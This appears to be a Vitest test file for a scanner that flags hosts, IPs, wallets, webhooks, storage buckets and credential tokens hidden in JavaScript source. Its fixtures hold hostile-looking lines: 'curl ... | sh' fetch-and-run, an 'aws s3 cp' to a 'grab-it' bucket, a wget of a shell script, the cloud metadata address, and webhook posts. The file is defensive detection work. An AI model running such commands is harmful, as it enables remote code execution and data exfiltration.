// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the holes belong to the code that is read.
// What names somebody in a text of code, in several spellings, and what only looks like it. Tokens are made up: they open
// nothing.
import { describe, expect, test } from 'vitest'
import { findIndicators } from '../../../src/code/indicators/find.ts'
import { textsOf } from '../../../src/code/indicators/texts.ts'
import { parseSource } from '../../../src/code/parse.ts'
import { createResolver } from '../../../src/code/resolver.ts'

function indicatorsOf(source: string): string[] {
  const resolver = createResolver(parseSource('index.js', source).program)
  return findIndicators(source, textsOf(resolver.collected, resolver))
    .map(({ kind, value }) => `${kind} ${value}`)
    .toSorted()
}

/** Looks like one and is none. */
const random = (length: number, alphabet: string) =>
  Array.from({ length }, (_, index) => alphabet[(index * 11 + (index >> 2) * 5 + 3) % alphabet.length]).join('')
const letters = 'aB3dE5gH7jK9mN2pQ4rS6tU8vW'
const upper = 'ABCD2EFG3HIJ4KLM5NOP6QRS7'
const onion = `${random(56, 'abcdefghij234567')}.onion`

const table: readonly (readonly [expected: readonly string[], ...spellings: string[]])[] = [
  [
    ['host cdn.example.test'],
    'get("https://cdn.example.test")',
    'const u = "HTTPS://CDN.example.test/"',
    'const u = "https://" + "cdn.example" + ".test"',
    'connect({ host: "cdn.example.test" })',
    'const u = atob("aHR0cHM6Ly9jZG4uZXhhbXBsZS50ZXN0")',
    'const u = `https://user:word@cdn.example.test:8443?x=${y}`',
    'run("curl -s https://cdn.example.test | sh")',
    'get("https:cdn.example.test")',
    'get(" https:/cdn.example.test")',
    'get("https:\\\\\\\\cdn.example.test")',
    'get("https:/\\\\cdn.example.test")',
    'get("ht\\ntps://cdn.exa\\tmple.test")',
    'const u = `WSS:cdn.example.test?x=${y}`',
  ],
  [
    ['host api.example.test', 'url api.example.test/v1/send'],
    'get("https://api.example.test/v1/send/one?key=2#x")',
    'get(`https://api.example.test/v1/send/${name}`)',
    'const host = "https://api.example.test"; get(`${host}/v1/send`); const u = host + "/v1/send"',
  ],
  [
    ['ip 203.0.113.9'],
    'get("http://203.0.113.9:8000")',
    'net.connect(4444, "203.0.113.9")',
    'get("http://[::ffff:203.0.113.9]")',
    'connect("::FFFF:cb00:7109")',
    'connect("::ffff:203.0.113.9%eth0")',
    'const a = ["203", "0", "113", "9"].join("."); const b = "203.0.113.9:1337"',
  ],
  [
    ['ip 169.254.169.254'],
    'get("http://169.254.169.254")',
    'const h = "169.254.169.254"',
    'get(`http://169.254.169.254?${x}`)',
  ],
  [['ip 2001:db8::17'], 'get("http://[2001:db8::17]:80")', 'connect("2001:DB8::17")', 'const a = "2001:db8::17"'],
  [
    ['email phan@shop.example.test'],
    'send({ bcc: "phan@shop.example.test" })',
    'const to = "Phan <PHAN@shop.example.test>"',
    'open("mailto:phan@shop.example.test")',
    'const to = "phan" + "@shop.example.test"',
  ],
  [
    ['wallet btc:1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2'],
    'swap("1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2")',
    'const list = ["1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2"]',
    'const t = "pay to 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 now"',
  ],
  [
    ['wallet btc:bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4'],
    'swap("bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4")',
    'swap("BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4")',
    'swap("bc1qw508d6qejxtdg4y5r3" + "zarvary0c5xw7kv8f3t4")',
  ],
  [
    ['wallet eth:0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed'],
    'swap("0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed")',
    'const to = `0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed`',
    'const t = "to:0x5AAEB6053F3E94C9B9A09F33669435E7EF1BEAED"',
  ],
  [
    ['wallet sol:7EcDhSYGxXyscszYEp35KHN8vvw3svAuLKTzXwCFLtV1'],
    'swap("7EcDhSYGxXyscszYEp35KHN8vvw3svAuLKTzXwCFLtV1")',
    "const to = '7EcDhSYGxXyscszYEp35KHN8vvw3svAuLKTzXwCFLtV1'",
    'const to = `7EcDhSYGxXyscszYEp35KHN8vvw3svAuLKTzXwCFLtV1`',
  ],
  [
    ['wallet trx:TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t'],
    'swap("TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t")',
    'const to = "TR7NHqjeKQxGTCi8" + "q8ZY4pL8otSzgjLj6t"',
    'const t = "tron TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t."',
  ],
  [
    ['host discord.com', 'url discord.com/api/webhooks', 'webhook discord.com/api/webhooks/112233445566'],
    'post("https://discord.com/api/webhooks/112233445566/aXbY")',
    'post("https://discord.com/api/webhooks/" + "112233445566/" + "aXbY")',
    'post(`https://discord.com/api/webhooks/112233445566/${key}`)',
  ],
  [
    ['host hooks.slack.com', 'url hooks.slack.com/services/T00', 'webhook hooks.slack.com/services/T00/B00'],
    'post("https://hooks.slack.com/services/T00/B00/xyz")',
    'post(`https://hooks.slack.com/services/T00/B00/${x}`)',
    'const h = "https://hooks.slack.com"; post(h + "/services/T00/B00/xyz")',
  ],
  [
    [
      'chat-id -100200300400',
      'host api.telegram.org',
      'url api.telegram.org/bot123456789%3Ax/sendMessage',
      'webhook api.telegram.org/bot123456789%3Ax',
    ],
    'get("https://api.telegram.org/bot123456789%3Ax/sendMessage?chat_id=-100200300400&text=")',
    'get(`https://api.telegram.org/bot123456789%3Ax/sendMessage?chat_id=-100200300400&text=${t}`)',
    'post("https://api.telegram.org/bot123456789%3Ax/sendMessage", { chat_id: "-100200300400" })',
  ],
  [
    ['chat-id @some_channel'],
    'send({ chat_id: "@some_channel" })',
    'const chatId = "@some_channel"',
    'form.TELEGRAM_CHAT_ID = "@some_channel"',
  ],
  [
    ['bucket s3:grab-it', 'host grab-it.s3.us-east-1.amazonaws.com'],
    'get("https://grab-it.s3.us-east-1.amazonaws.com")',
    'get(`https://grab-it.s3.us-east-1.amazonaws.com/${key}`)',
    'const u = "https://grab-it" + ".s3.us-east-1.amazonaws.com/"',
  ],
  [
    ['bucket s3:grab-it'],
    'cp("s3://grab-it/x")',
    'run("aws s3 cp f s3://grab-it/a/b")',
    'const u = "s3://" + "grab-it"',
  ],
  [
    ['bucket gs:grab-it', 'host storage.googleapis.com', 'url storage.googleapis.com/grab-it/x.sh'],
    'get("https://storage.googleapis.com/grab-it/x.sh")',
    'get(`https://storage.googleapis.com/grab-it/x.sh?${y}`)',
    'run("wget https://storage.googleapis.com/grab-it/x.sh")',
  ],
  [[`onion ${onion}`], `get("http://${onion}/a")`, `const h = "${onion}"`, `const h = "http://" + "${onion}"`],
]

const honest: readonly (readonly [name: string, source: string])[] = [
  [
    'namespaces',
    'f("http://www.w3.org/2000/svg", "http://www.w3.org/1999/xhtml", "http://json-schema.org/draft-07/schema#")',
  ],
  ['examples', 'f("https://example.com/x", "http://api.example.org", "me@example.com", "https://a.invalid")'],
  [
    'one machine',
    'f("http://localhost:3000", "http://127.0.0.1:80", "ws://[::1]:9229", "http://0.0.0.0:1", "http://192.168.1.4", "10.0.0.8")',
  ],
  ['comments', '// https://docs.example.test/x\n/* mail a@docs.example.test */ f()'],
  ['where a message sends people', 'throw new Error("Bad. See https://docs.example.test/errors for more")'],
  ['a link of Markdown', 'const t = "read [the docs](https://docs.example.test/a)"'],
  ['versions', 'f("1.2.3", "4.0.0.0", "10.15.7", "v1.2.3.4", "1.2.3.4-beta")'],
  ['object identifiers', 'f("2.5.4.3", "2.5.29.17", "1.3.101.112")'],
  ['files and members', 'f("app.js", "index.html", "os.path", "socket.io", "String.prototype.test", "logo@2x.png")'],
  ['packages', 'f("@scope/name@1.2.3", "name@latest", "git@github.com:a/b.git")'],
  ['zero addresses', 'f("0x0000000000000000000000000000000000000000", "0xffffffffffffffffffffffffffffffffffffffff")'],
  ['hashes', 'f("0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed00", "da39a3ee5e6b4b0d3255bfef95601890afd80709")'],
  ['a broken checksum', 'f("1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3", "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5")'],
  ['a hole for a host', 'get(`https://${host}/v1`); get("https://" + host)'],
  ['placeholders', `f("ghp_${'x'.repeat(36)}", "AKIAIOSFODNN7EXAMPLE", "npm_${'0'.repeat(36)}")`],
]

const tokens: readonly (readonly [name: string, ...spellings: string[]])[] = [
  [
    'npm',
    `f("npm_${random(36, letters)}")`,
    `const t = "//r/:_authToken=npm_${random(36, letters)}"`,
    `f("npm_" + "${random(36, letters)}")`,
  ],
  [
    'github',
    `f("ghp_${random(36, letters)}")`,
    `f("token gho_${random(36, letters)}")`,
    `f(\`github_pat_${random(22, letters)}_${random(59, letters)}\`)`,
  ],
  ['aws', `f("AKIA${random(16, upper)}")`, `f("key=ASIA${random(16, upper)};")`, `f("AKIA" + "${random(16, upper)}")`],
  [
    'slack',
    `f("xoxb-${random(30, letters)}")`,
    `f("Bearer xoxp-${random(40, letters)}")`,
    `f(\`xoxa-${random(24, letters)}\`)`,
  ],
  [
    'telegram-bot',
    `f("123456789:AA${random(33, letters)}")`,
    `f("1234567890:AA${random(33, letters)}")`,
    `f("bot" + "123456789:AA${random(33, letters)}")`,
  ],
  [
    'jwt',
    `f("eyJ${random(20, letters)}.eyJ${random(30, letters)}.${random(43, letters)}")`,
    `f("Bearer eyJ${random(16, letters)}.eyJ${random(16, letters)}.${random(30, letters)}")`,
    `f(\`eyJ${random(20, letters)}.eyJ${random(30, letters)}.${random(86, letters)}\`)`,
  ],
]

describe('named', () => {
  for (const [expected, ...spellings] of table) {
    test.each(spellings)(`${expected.join(', ')} %#`, (source) => {
      expect(indicatorsOf(source)).toEqual(expected)
    })
  }
})

describe('tokens', () => {
  for (const [name, ...spellings] of tokens) {
    test.each(spellings)(`${name} %#`, (source) => {
      const [found, ...more] = indicatorsOf(source)
      expect(more).toEqual([])
      expect(found).toMatch(new RegExp(`^token ${name}:[0-9a-f]{12}$`))
    })
  }
})

describe('honest', () => {
  test.each(honest)('%s', (_name, source) => {
    expect(indicatorsOf(source)).toEqual([])
  })
})

test('each once, at its first place', () => {
  const source = 'f()\nget("https://a.example.test")\nget("https://a.example.test/")'
  const resolver = createResolver(parseSource('index.js', source).program)
  const found = findIndicators(source, textsOf(resolver.collected, resolver))
  expect(found).toEqual([{ kind: 'host', value: 'a.example.test', line: 2, column: 5, excerpt: expect.any(String) }])
})
